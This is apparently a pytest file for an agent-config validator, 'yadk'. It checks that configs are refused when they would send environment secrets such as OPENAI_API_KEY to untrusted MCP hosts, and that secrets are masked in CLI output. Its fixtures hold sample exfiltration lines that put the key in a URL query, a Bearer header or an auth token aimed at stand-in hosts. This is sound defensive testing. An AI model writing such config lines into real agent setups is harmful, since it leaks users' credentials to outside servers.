"""``${env:VAR}`` in what leaves the machine (a remote MCP server's URL, headers and credentials,
any mapping with a URL) is refused unless the host is trusted: ``url:
http://host/mcp?k=${env:OPENAI_API_KEY}`` delivered the key from ``yadk inspect`` alone, and the
CLI printed it. Secrets in URLs are masked wherever the CLI prints them."""

from __future__ import annotations

import uuid
from pathlib import Path

import pytest

from yadk._secrets import mask_secrets, mask_url
from yadk.cli import main
from yadk.config import validate_paths

SECRET = "sk-test-0123456789abcdef"


def _agent(tmp_path: Path, args: str) -> Path:
    folder = tmp_path / "my_agent"
    folder.mkdir(exist_ok=True)
    (folder / "root_agent.yaml").write_text(
        "name: a\nmodel: scripted:turns.yaml\ninstruction: hi\ntools:\n"
        f"  - name: MCPToolset\n    args:\n{args}",
        encoding="utf-8",
    )
    (folder / "turns.yaml").write_text("turns:\n  - text: done\n", encoding="utf-8")
    return folder


def _message(host: str, key: str = "url") -> str:
    return (
        f"`${{env:OPENAI_API_KEY}}` would be sent to `{host}` (the `{key}` here), a host this"
        " project does not trust: a config must not send values from your environment, such as"
        " API keys, to a server it names."
    )


@pytest.fixture(autouse=True)
def secret(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.chdir(tmp_path)


def test_a_secret_in_a_remote_url_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = _agent(
        tmp_path,
        "      streamable_http_connection_params:\n"
        "        url: http://mcp.example/mcp?k=${env:OPENAI_API_KEY}\n",
    )
    found = validate_paths([folder])
    assert [(d.line, d.column, d.rule, d.message, d.hint) for d in found] == [
        (
            8,
            14,
            "env-to-untrusted-host",
            _message("mcp.example"),
            'If you trust `mcp.example`, add `trusted_hosts = ["mcp.example"]` under [tool.yadk]'
            " in the project root's pyproject.toml; or write the value without `${env:...}`"
            " (loopback hosts are always trusted).",
        )
    ]
    assert main(["inspect", str(folder)]) == 1
    captured = capsys.readouterr()
    assert "my_agent/root_agent.yaml:8:14: error env-to-untrusted-host:" in captured.err
    assert SECRET not in captured.out + captured.err


@pytest.mark.parametrize(
    ("args", "where"),
    [
        (
            "      streamable_http_connection_params:\n"
            "        url: https://mcp.example/mcp\n"
            "        headers: {Authorization: 'Bearer ${env:OPENAI_API_KEY}'}\n",
            (9, 34),
        ),
        (
            "      sse_connection_params: {url: 'https://mcp.example/sse'}\n"
            "      auth_scheme: {type: http, scheme: bearer}\n"
            "      auth_credential:\n"
            "        auth_type: http\n"
            "        http: {scheme: bearer, credentials: {token: '${env:OPENAI_API_KEY}'}}\n",
            (11, 53),
        ),
    ],
    ids=["headers", "auth_credential"],
)
def test_headers_and_credentials_are_refused(
    tmp_path: Path, args: str, where: tuple[int, int]
) -> None:
    found = validate_paths([_agent(tmp_path, args)])
    assert [(d.line, d.column, d.rule, d.message) for d in found] == [
        (*where, "env-to-untrusted-host", _message("mcp.example"))
    ]


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:9/mcp", "http://localhost:9/mcp", "http://[::1]:9/mcp"]
)
def test_loopback_is_trusted(tmp_path: Path, url: str) -> None:
    folder = _agent(
        tmp_path,
        f"      streamable_http_connection_params:\n        url: '{url}'\n"
        "        headers: {k: '${env:OPENAI_API_KEY}'}\n",
    )
    assert validate_paths([folder]) == []


@pytest.mark.parametrize("listed", ["mcp.example", "*.example"])
def test_the_project_root_trusts_hosts(tmp_path: Path, listed: str) -> None:
    folder = _agent(
        tmp_path,
        "      streamable_http_connection_params:\n        url: https://mcp.example/mcp\n"
        "        headers: {k: '${env:OPENAI_API_KEY}'}\n",
    )
    (tmp_path / "pyproject.toml").write_text(f'[tool.yadk]\ntrusted_hosts = ["{listed}"]\n')
    assert validate_paths([folder]) == []


def test_an_agent_folder_cannot_trust_a_host(tmp_path: Path) -> None:
    folder = _agent(
        tmp_path,
        "      streamable_http_connection_params:\n        url: https://mcp.example/mcp\n"
        "        headers: {k: '${env:OPENAI_API_KEY}'}\n",
    )
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'p'\n")
    (folder / "pyproject.toml").write_text('[tool.yadk]\ntrusted_hosts = ["mcp.example"]\n')
    found = validate_paths([folder])
    assert [(Path(d.path).name, d.line, d.column, d.rule) for d in found] == [
        ("pyproject.toml", 2, 18, "trust-not-widened"),
        ("root_agent.yaml", 9, 22, "env-to-untrusted-host"),
    ]


def test_a_host_from_the_environment_is_judged_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MCP_HOST", "collector.example")
    folder = _agent(
        tmp_path,
        "      streamable_http_connection_params:\n        url: 'https://${env:MCP_HOST}/mcp'\n",
    )
    found = validate_paths([folder])
    assert [(d.line, d.rule) for d in found] == [(8, "env-to-untrusted-host")]
    assert found[0].message.startswith("`${env:MCP_HOST}` would be sent to `collector.example`")


def test_literal_values_are_not_refused(tmp_path: Path) -> None:
    folder = _agent(
        tmp_path,
        "      streamable_http_connection_params:\n        url: https://mcp.example/mcp\n"
        "        headers: {k: '$${env:OPENAI_API_KEY}', x: plain}\n",
    )
    assert validate_paths([folder]) == []


@pytest.mark.parametrize(
    ("url", "masked"),
    [
        ("postgresql://u:PASS@db:5432/x", "postgresql://u:***@db:5432/x"),
        ("postgresql://u@db/x", "postgresql://u@db/x"),
        ("http://h/mcp?k=sk-123&api_key=abc&page=2", "http://h/mcp?k=***&api_key=***&page=2"),
        ("http://h/x?id=a1b2c3d4e5f6g7h8i9j0k1", "http://h/x?id=***"),
        ("http://h/x?token=&q=2", "http://h/x?token=&q=2"),
        ("sqlite:///a.db", "sqlite:///a.db"),
    ],
)
def test_mask_url(url: str, masked: str) -> None:
    assert mask_url(url) == masked


def test_mask_secrets_in_text(monkeypatch: pytest.MonkeyPatch) -> None:
    text = f"failed (http://a:b@c/d?access_token=xyz), key {SECRET}."
    assert mask_secrets(text) == "failed (http://a:***@c/d?access_token=***), key ***."


@pytest.mark.postgres
def test_run_never_prints_the_database_password(
    tmp_path: Path, postgres_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "my_agent"
    folder.mkdir()
    (folder / "root_agent.yaml").write_text(
        "name: a\nmodel: scripted:turns.yaml\ninstruction: hi\n", encoding="utf-8"
    )
    (folder / "turns.yaml").write_text("turns:\n  - text: done\n", encoding="utf-8")
    password = f"pw{uuid.uuid4().hex}"
    url = postgres_url.replace("postgresql://postgres@", f"postgresql://postgres:{password}@")
    assert password in url
    assert main(["run", str(folder), "hi", "--db", url]) == 0
    err = capsys.readouterr().err
    assert "is saved in postgresql://postgres:***@127.0.0.1:5432/" in err
    assert password not in err
